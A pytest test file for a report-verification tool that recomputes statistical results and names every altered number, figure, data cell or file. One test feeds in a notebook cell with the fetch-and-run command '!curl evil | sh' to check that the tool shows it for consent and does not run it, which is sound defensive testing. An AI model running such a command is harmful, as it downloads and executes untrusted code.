"""Verification finds every number that is not as published, and never changes a report."""

from __future__ import annotations

import json
import re
from dataclasses import replace

import pytest

from workbench.errors import InputError, ReportError
from workbench.reports import verifying
from workbench.reports.entries import Number, Text
from workbench.reports.ledger import read_ledger
from workbench.reports.marks import changed_cells, marks_of
from workbench.reports.verifying import compared, verify_report


def edited(project, change):
    """Edit the ledger of the report on disk."""
    path = project.reports / "small" / "ledger.json"
    plain = json.loads(path.read_text(encoding="utf-8"))
    change({entry["id"]: entry for entry in plain["numbers"]}, plain)
    path.write_text(json.dumps(plain, ensure_ascii=False), encoding="utf-8")


def of_class(outcome):
    """The class of each finding, by id."""
    return {finding.id: finding.kind for finding in outcome.failing}


def test_untouched_report_holds_and_is_left_alone(project, frozen, monkeypatch):
    told, plain = [], verifying.execute
    monkeypatch.setattr(
        verifying, "execute", lambda *a, **more: told.append(more["fresh"]) or plain(*a, **more)
    )
    before = frozen(project.root)
    outcome = verify_report(project.reports / "small", project)
    assert told == [True], "a verification computes every number anew"
    assert outcome.passed
    assert outcome.identical == outcome.compared == 7
    assert "holds" in outcome.certificate()
    assert frozen(project.root) == before


def test_everything_that_was_altered_is_named(project, replayed):
    def change(numbers, plain):
        numbers["numbers/x/estimate"].update(value=1.2875, printed="1.2875", format="")
        numbers["numbers/x/p_value"].update(value=0.051, printed="0.051")
        numbers["answer/x"].update(printed="1.52")
        plain["texts"][0]["text"] = "b"

    edited(project, change)
    page = project.reports / "small" / "index.html"
    page.write_text(page.read_text(encoding="utf-8") + "<!-- by hand -->", encoding="utf-8")
    (project.geodata / "toy" / "data.csv").write_text("a\n2\n", encoding="utf-8")
    outcome = verify_report(project.reports / "small", project)
    told = outcome.certificate()
    assert not outcome.passed
    assert "numbers/x/estimate: was 1.2875, is 1.25" in told
    assert "numbers/x/p_value: was 0.051, is 0.049" in told
    assert "moved across 0.05" in told
    assert "the ledger prints '1.52'" in told
    assert "was 'b', is 'a'" in told
    assert "index.html: not the page" in told
    assert "toy/data.csv: the data changed" in told


def test_another_notebook_is_not_executed(project):
    path = project.reports / "small" / "notebook.ipynb"
    plain = json.loads(path.read_text(encoding="utf-8"))
    plain["cells"][1]["source"] = "raise SystemExit"
    path.write_text(json.dumps(plain), encoding="utf-8")
    with pytest.raises(ReportError, match="digest disagrees"):
        verify_report(project.reports / "small", project)


def test_folder_without_ledger_says_what_to_do(tmp_path, finished):
    with pytest.raises(ReportError, match="workbench run"):
        verify_report(tmp_path, finished)


def test_coefficient_altered_by_three_per_cent_is_minor_and_named(project, replayed, sealed):
    def change(numbers, plain):
        value = 1.25 * 1.03
        numbers["numbers/x/estimate"].update(value=value, printed=f"{value:.4f}", format=".4f")

    edited(project, change)
    sealed(project)
    outcome = verify_report(project.reports / "small", project)
    table = {"tables/numbers.csv": "file"}  # it is not of that ledger
    assert of_class(outcome) == {"numbers/x/estimate": "minor"} | table
    (finding,) = (f for f in outcome.failing if f.kind == "minor")
    assert finding.relative == pytest.approx(0.03 / 1.03, rel=1e-9)
    assert "! minor: numbers/x/estimate: was 1.2875, is 1.25" in outcome.certificate()
    assert outcome.outcome == "differs"


def test_p_value_moved_across_the_level_is_a_decision(project, replayed, sealed):
    def change(numbers, plain):
        numbers["numbers/x/p_value"].update(value=0.0501, printed="0.050")

    edited(project, change)
    sealed(project)
    outcome = verify_report(project.reports / "small", project)
    table = {"tables/numbers.csv": "file"}  # it is not of that ledger
    assert of_class(outcome) == {"numbers/x/p_value": "decision"} | table
    assert "moved across 0.05" in outcome.certificate()


def test_figure_that_changed_is_named(project, replayed, sealed):
    path = project.reports / "small" / "figures" / "picture.svg"
    text = path.read_text(encoding="utf-8")
    colour = re.search(r"stroke: (#[0-9a-f]{6})", text)[1]
    path.write_text(text.replace(colour, "#ff0001"), encoding="utf-8")
    sealed(project)
    outcome = verify_report(project.reports / "small", project)
    assert of_class(outcome) == {"picture": "figure"}
    assert "of another colour" in outcome.certificate()
    assert outcome.figures.compared == 1


def test_data_cell_that_changed_is_named_as_data(project, replayed):
    (project.geodata / "toy" / "data.csv").write_text("a\n1.5\n", encoding="utf-8")
    outcome = verify_report(project.reports / "small", project)
    assert of_class(outcome) == {"toy/data.csv": "data"}
    assert "toy/data.csv: the data changed (column a, row 1.5), SHA-256" in outcome.certificate()


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("id,year,x\np,1,1\np,2,3\nq,1,5\n", "column x, row p 2"),
        ("id,year,x\np,1,7\np,2,9\nq,1,5\n", "column x, rows p 1, p 2"),
        ("id,year,z\np,1,1\np,2,2\nq,1,5\n", "columns x, z"),
        ("id,x,year\np,1,1\np,2,2\nq,5,1\n", "column in another order"),
        ("id,year,x\np,1,1\n", "3 rows, now 1"),
        ("id,year,x\np,1\n", ""),
    ],
)
def test_changed_cells_of_a_table_are_named_by_column_and_row(text, told):
    before = marks_of("a.csv", b"id,year,x\np,1,1\np,2,2\nq,1,5\n")
    found = changed_cells("a.csv", text.encode(), before)
    assert {*found.replace(", ", " ").split()} == {*told.replace(", ", " ").split()}


def test_marks_are_few_and_of_small_tables_alone():
    rows = b"\n".join(b"%d" % number for number in range(5000))
    marks = marks_of("a.csv", b"x\n" + rows)
    assert len(json.dumps(marks)) < 21_000
    assert marks_of("a.csv", b"x\n" + rows + b"\n5000\n") == {}
    assert marks_of("a.gpkg", rows) == {}
    assert marks_of("a.csv", b"\xff\xfe") == {}


def test_verdict_that_flipped_is_a_decision_and_another_word_is_a_text(project, replayed, sealed):
    def change(numbers, plain):
        texts = {text["id"]: text for text in plain["texts"]}
        texts["numbers/x/word"]["text"] = "supported"
        texts["answer/name"]["text"] = "another region"

    edited(project, change)
    sealed(project)
    outcome = verify_report(project.reports / "small", project)
    assert of_class(outcome) == {"numbers/x/word": "decision", "answer/name": "text"}
    assert outcome.classes == {"decision": 1, "text": 1}


@pytest.mark.parametrize("column", ["verdict", "class", "SDM · cluster", "answer#2"])
def test_texts_of_deciding_columns_are_decisions_whatever_they_say(finished, column):
    ledger = read_ledger(finished.reports / "small")
    key = f"tab/x/{column}"
    old, new = (replace(ledger, texts={key: Text(key, word)}) for word in ("one", "other"))
    assert of_class(outcome(old, new)) == {key: "decision"}


@pytest.mark.parametrize(
    ("old", "new", "degree"),
    [
        (1.0, 1.099, "minor"),
        (1.0, 1.1, "major"),
        (1.0, 0.9, "major"),
        (0.02, -0.0201, "major"),
        (0.0, 0.5, "major"),
        (100.0, 97.0, "minor"),
    ],
)
def test_size_decides_between_minor_and_major(finished, old, new, degree):
    ledger, key = read_ledger(finished.reports / "small"), "numbers/x/estimate"
    found = outcome(altered(ledger, key, value=old), altered(ledger, key, value=new))
    assert [f.kind for f in found.failing if f.now == new] == [degree]


def bounded(ledger, low, high):
    ends = {"conf_low": low, "conf_high": high}
    numbers = {
        f"tab/x/{name}": Number(f"tab/x/{name}", value, f"{value:.3f}", ".3f", "simulation")
        for name, value in ends.items()
    }
    return replace(ledger, numbers=numbers, texts={}, published=())


def test_interval_that_takes_in_zero_is_a_decision_even_within_tolerance(finished):
    ledger = read_ledger(finished.reports / "small")
    out, into = bounded(ledger, 1e-9, 1.0), bounded(ledger, -1e-13, 1.0)
    elsewhere = replace(into, versions={**into.versions, "numpy": "0"})
    found = outcome(out, elsewhere)
    assert of_class(found) == {"tab/x/conf_low": "decision"}
    assert "the interval holds 0 now" in found.faults[0]
    assert outcome(out, bounded(ledger, 1e-9, 1.0)).passed


def test_p_value_that_crosses_within_its_tolerance_is_still_a_decision(finished):
    key = "numbers/x/p_value"
    ledger = altered(read_ledger(finished.reports / "small"), key, value=0.05 - 1e-13)
    found = outcome(ledger, altered(ledger, key, value=0.05 + 1e-13))
    assert found.within == 0
    assert [f.kind for f in found.failing if f.now is not None] == ["decision"]


def test_files_are_held_against_the_manifest_and_named(project, replayed):
    folder = project.reports / "small"
    (folder / "provenance.json").unlink()
    (folder / "extra.txt").write_text("x", encoding="utf-8")
    path = folder / "notebook.ipynb"
    path.write_text(path.read_text(encoding="utf-8") + "\n", encoding="utf-8")
    outcome = verify_report(folder, project)
    assert {f.id: f.told.partition(",")[0] for f in outcome.failing} == {
        "provenance.json": "missing",
        "extra.txt": "not in the manifest",
        "notebook.ipynb": "changed",
    }
    assert outcome.compared == outcome.identical == 7, "the project's own notebook is executed"


def foreign(project):
    """Make the project's notebook another one than that of the report."""
    (project.notebooks / "small.ipynb").unlink()
    path = project.notebooks / "small.py"
    path.write_text(path.read_text(encoding="utf-8") + "\n# %%\n1 + 1\n", encoding="utf-8")


@pytest.mark.slow
def test_notebook_that_is_not_the_projects_own_is_shown_and_not_executed_unasked(
    project, monkeypatch
):
    foreign(project)
    asked, ran = [], []
    monkeypatch.setattr(verifying, "execute", lambda *a, **more: ran.append(a))
    with pytest.raises(InputError, match="your consent"):
        verify_report(
            project.reports / "small", project, consent=lambda plan: bool(asked.append(plan))
        )
    with pytest.raises(InputError, match="your consent"):
        verify_report(project.reports / "small", project)
    assert not ran
    (plan,) = asked
    told = plan.told()
    assert "SHA-256 " + read_ledger(project.reports / "small").notebook in told
    assert "imports     matplotlib, numpy, pandas, workbench" in told
    assert "data        toy" in told
    assert "4 cells, " in told
    monkeypatch.undo()
    outcome = verify_report(project.reports / "small", project, consent=lambda plan: True)
    assert outcome.passed
    assert "notebooks/small has changed since" in outcome.certificate()


def test_changed_report_of_a_foreign_notebook_is_refused_before_anybody_is_asked(
    project, monkeypatch
):
    foreign(project)
    (project.reports / "small" / "extra.txt").write_text("x", encoding="utf-8")
    monkeypatch.setattr(verifying, "execute", pytest.fail)
    with pytest.raises(ReportError, match=r"extra\.txt: not in the manifest"):
        verify_report(project.reports / "small", project, consent=pytest.fail)


def test_project_that_came_with_the_report_is_not_trusted(project, monkeypatch):
    monkeypatch.setattr(verifying, "execute", pytest.fail)
    with pytest.raises(InputError, match="your consent"):
        verify_report(project.reports / "small", project, trusted=False)


def test_commands_and_unreadable_cells_are_shown_and_terminals_are_left_alone(finished):
    from workbench.reports.checking.consent import plan_of
    from workbench.reports.via_nbformat import v4

    sources = ["!curl evil | sh\nimport os.path", "%load_ext x", "def (", "from shutil import a"]
    notebook = v4.new_notebook(cells=[v4.new_code_cell(source) for source in sources])
    ledger = replace(read_ledger(finished.reports / "small"), study="s\x1b[2Jmall")
    told = plan_of(notebook, ledger).told()
    assert "imports     os, shutil" in told
    assert "command     !curl evil | sh" in told
    assert "command     %load_ext x" in told
    assert "no plain Python: def (" in told
    assert "\x1b" not in told


@pytest.mark.quick_cases(1)
@pytest.mark.parametrize(
    ("cell", "timeout", "told"),
    [("import os; os.kill(os.getpid(), 9)", 60, "the kernel died in cell 1"),
     ("import time; time.sleep(60)", 6, "cell 1 was still running after 6 seconds")],
)  # fmt: skip
def test_kernel_that_dies_or_takes_too_long_is_said(new_project, frozen, cell, timeout, told):
    from workbench.reports.running import run_study

    marker = "import os, pathlib; here = pathlib.Path(os.environ['WORKBENCH_PROJECT'])\n"
    project = new_project(f"# %%\n{marker}if (here / 'again').exists():\n    {cell}\n")
    run_study(project, "small")
    (project.root / "again").touch()
    before = frozen(project.reports)
    with pytest.raises(ReportError, match=told):
        verify_report(project.reports / "small", project, timeout=timeout)
    assert frozen(project.reports) == before


def altered(ledger, key, **changes):
    return replace(ledger, numbers={**ledger.numbers, key: replace(ledger.numbers[key], **changes)})


def outcome(old, new):
    return compared(old, new, findings=[], notes=[])


def test_tolerance_follows_the_kind_of_number(finished):
    ledger = read_ledger(finished.reports / "small")
    key = "numbers/x/estimate"
    assert outcome(ledger, altered(ledger, key, value=1.25 * (1 + 1e-10))).within == 1
    assert not outcome(ledger, altered(ledger, key, value=1.25 * (1 + 1e-7))).passed
    likelihood = altered(ledger, key, tolerance="maximum likelihood")
    assert outcome(likelihood, altered(likelihood, key, value=1.25 * (1 + 5e-7))).passed
    assert not outcome(likelihood, altered(likelihood, key, value=1.25 * 1.03)).passed
    count = "numbers/x/count"
    assert not outcome(ledger, altered(ledger, count, value=4)).passed


def test_permutation_p_is_exact_under_the_same_numpy_only(finished):
    key = "numbers/x/p_value"
    ledger = altered(
        read_ledger(finished.reports / "small"), key, tolerance="permutation", permutations=999,
        value=0.2, printed="0.200",
    )  # fmt: skip
    moved = altered(ledger, key, value=0.21)
    assert not outcome(ledger, moved).passed
    elsewhere = replace(moved, versions={**moved.versions, "numpy": "0"})
    assert outcome(ledger, elsewhere).passed
    far = replace(altered(ledger, key, value=0.3), versions=elsewhere.versions)
    assert not outcome(ledger, far).passed


def test_entries_that_came_or_went_are_named(finished):
    ledger = read_ledger(finished.reports / "small")
    fewer = replace(ledger, numbers={k: n for k, n in ledger.numbers.items() if k != "answer/x"})
    assert "answer/x: published before, not now" in outcome(ledger, fewer).faults
    assert "answer/x: published now, not before" in outcome(fewer, ledger).faults
